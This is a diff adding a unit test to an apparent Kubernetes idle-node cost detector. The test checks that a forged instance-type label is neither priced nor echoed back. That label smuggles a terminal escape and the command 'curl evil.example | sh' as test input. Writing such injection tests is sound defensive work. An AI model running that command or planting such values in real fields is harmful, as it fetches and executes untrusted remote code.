@@ -340,6 +340,21 @@ describe('CONSOLIDATION_BLOCKED: cost and severity', () => {
     expect(costly?.severity).toBe('warning');
   });
 
+  it('a forged instance-type label never reaches the cost basis (labels are shape-checked like every priced instance)', () => {
+    const forged = idleNode(IDLE);
+    forged.metadata = {
+      ...forged.metadata,
+      labels: { ...forged.metadata?.labels, 'node.kubernetes.io/instance-type': 'm5.xlarge\u001b[2J; curl evil.example | sh' },
+    };
+    const anything: PriceBook = { hourly: () => ({ usd: 0.192, source: 'test table' }) };
+
+    const [f] = detect(idlePool({ nodes: [forged] }), { prices: anything });
+
+    // The type is not known, so nothing is priced (a price book would price any name it is given).
+    expect(f?.cost).toBeUndefined();
+    expect(JSON.stringify(f)).not.toContain('curl evil');
+  });
+
   it('unpriced nodes carry no cost and stay info, whatever the threshold', () => {
     const [f] = detect(idlePool(), { settings: { wastePerDay: 0 } });
 
